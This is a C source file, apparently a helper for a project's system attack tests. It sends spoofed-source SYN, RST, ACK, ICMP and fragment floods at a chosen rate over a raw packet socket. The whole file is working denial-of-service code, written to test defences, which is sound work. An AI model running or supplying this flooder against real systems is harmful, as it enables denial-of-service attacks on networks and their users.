/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Frames of an attacker, so many a second, out of a card of this namespace:
 *
 *   flood DEVICE KIND RATE SECONDS SOURCE/BITS LOW-HIGH DEST PORT GATEWAY-MAC
 *
 * KIND: syn, rst, ack, icmp (half echoes, half errors about connections), frag (pieces of datagrams
 * that stay incomplete). Sources are drawn from that prefix, their ports from LOW to HIGH, numbers
 * from anywhere. Prints `sent N`. For tests/system/attacks.py.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { FRAME = 128, ETH = 14, IP = 20, BATCH_MS = 2, MAC_BYTES = 6 };
enum { FIN = 1, SYN = 2, RST = 4, ACK = 16 };

struct attack {
    const char *kind;
    uint32_t net, mask, dest; /* host order */
    uint16_t low, high, port;
    uint64_t dice;
};

static uint32_t draw(struct attack *a)
{
    a->dice ^= a->dice << 13;
    a->dice ^= a->dice >> 7;
    a->dice ^= a->dice << 17;
    return (uint32_t)(a->dice >> 16);
}

static void put16(uint8_t *at, uint32_t v)
{
    at[0] = (uint8_t)(v >> 8);
    at[1] = (uint8_t)v;
}

static void put32(uint8_t *at, uint32_t v)
{
    put16(at, v >> 16);
    put16(at + 2, v);
}

static uint16_t sum(uint32_t s, const uint8_t *at, size_t n)
{
    for (size_t i = 0; i + 1 < n; i += 2)
        s += (uint32_t)at[i] << 8 | at[i + 1];
    while (s >> 16)
        s = (s & 0xffff) + (s >> 16);
    return (uint16_t)~s;
}

static uint16_t source_port(struct attack *a)
{
    return (uint16_t)(a->low + draw(a) % (uint32_t)(a->high - a->low + 1));
}

static size_t ip_header(struct attack *a, uint8_t *h, uint32_t src, uint8_t proto, size_t n,
                        uint16_t frag)
{
    h[0] = 0x45;
    put16(h + 2, (uint32_t)(IP + n));
    put16(h + 4, draw(a));
    put16(h + 6, frag);
    h[8] = 64;
    h[9] = proto;
    put32(h + 12, src);
    put32(h + 16, a->dest);
    put16(h + 10, sum(0, h, IP));
    return IP + n;
}

static size_t tcp(struct attack *a, uint8_t *h, uint32_t src, uint8_t flags)
{
    uint8_t *t = h + IP;
    size_t n = flags & SYN ? 24 : 20;
    put16(t, source_port(a));
    put16(t + 2, a->port);
    put32(t + 4, draw(a));
    put32(t + 8, flags & ACK ? draw(a) : 0);
    t[12] = (uint8_t)(n / 4 << 4);
    t[13] = flags;
    put16(t + 14, 64000);
    if (flags & SYN)
        put32(t + 20, 0x020405b4); /* MSS 1460 */
    uint32_t pseudo = (src >> 16) + (src & 0xffff) + (a->dest >> 16) + (a->dest & 0xffff) + 6;
    put16(t + 16, sum(pseudo + (uint32_t)n, t, n));
    return ip_header(a, h, src, 6, n, 0);
}

/* An echo, or port unreachable about a segment that the box is said to have sent. */
static size_t icmp(struct attack *a, uint8_t *h, uint32_t src)
{
    uint8_t *t = h + IP;
    size_t n = 36;
    if (draw(a) & 1) {
        t[0] = 8;
    } else {
        t[0] = 3;
        t[1] = 3;
        t[8] = 0x45;
        put16(t + 10, 1500);
        t[16] = 64;
        t[17] = 6;
        put32(t + 20, a->dest);
        put32(t + 24, src);
        put16(t + 18, sum(0, t + 8, IP));
        put16(t + 28, a->port);
        put16(t + 30, source_port(a));
        put32(t + 32, draw(a));
    }
    put16(t + 2, sum(0, t, n));
    return ip_header(a, h, src, 1, n, 0);
}

static size_t build(struct attack *a, uint8_t *h)
{
    uint32_t src = a->net | (draw(a) & ~a->mask);
    memset(h, 0, FRAME - ETH);
    switch (a->kind[0]) {
    case 's':
        return tcp(a, h, src, SYN);
    case 'r':
        return tcp(a, h, src, draw(a) & 1 ? RST : RST | ACK);
    case 'a':
        return tcp(a, h, src, ACK);
    case 'i':
        return icmp(a, h, src);
    default: /* more to come, and nothing does; somewhere in the datagram */
        return ip_header(a, h, src, draw(a) & 1 ? 6 : 17, 64,
                         (uint16_t)(0x2000 | draw(a) % 180 * 8));
    }
}

static uint64_t now_ms(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
}

static bool parse(char **v, struct attack *a, uint8_t mac[MAC_BYTES])
{
    struct in_addr src, dest;
    char *slash = strchr(v[5], '/');
    unsigned low, high, m[MAC_BYTES];
    if (!slash || sscanf(v[6], "%u-%u", &low, &high) != 2 ||
        sscanf(v[9], "%x:%x:%x:%x:%x:%x", m, m + 1, m + 2, m + 3, m + 4, m + 5) != MAC_BYTES)
        return false;
    *slash = 0;
    if (!inet_aton(v[5], &src) || !inet_aton(v[7], &dest))
        return false;
    int bits = atoi(slash + 1);
    a->kind = v[2];
    a->mask = bits ? ~0U << (32 - bits) : 0;
    a->net = ntohl(src.s_addr) & a->mask;
    a->dest = ntohl(dest.s_addr);
    a->low = (uint16_t)low;
    a->high = (uint16_t)high;
    a->port = (uint16_t)atoi(v[8]);
    a->dice = 0x9e3779b97f4a7c15ULL;
    for (int i = 0; i < MAC_BYTES; i++)
        mac[i] = (uint8_t)m[i];
    return true;
}

int main(int argc, char **argv)
{
    struct attack a;
    uint8_t frame[FRAME] = {[6] = 2, [11] = 0x66, [12] = 8};
    if (argc != 10 || !parse(argv, &a, frame)) {
        fprintf(stderr, "flood DEVICE KIND RATE SECONDS SOURCE/BITS LOW-HIGH DEST PORT MAC\n");
        return 2;
    }
    int s = socket(AF_PACKET, SOCK_RAW, 0);
    struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(argv[1])};
    uint64_t rate = strtoull(argv[3], NULL, 10), ms = (uint64_t)(1000 * atof(argv[4])), sent = 0;
    if (s < 0 || bind(s, (struct sockaddr *)&to, sizeof to)) {
        perror("flood");
        return 1;
    }
    for (uint64_t begun = now_ms(), at; (at = now_ms() - begun) < ms; usleep(BATCH_MS * 1000))
        for (; sent < rate * at / 1000; sent++)
            (void)!send(s, frame, ETH + build(&a, frame + ETH), MSG_DONTWAIT);
    printf("sent %llu\n", (unsigned long long)sent);
    return 0;
}
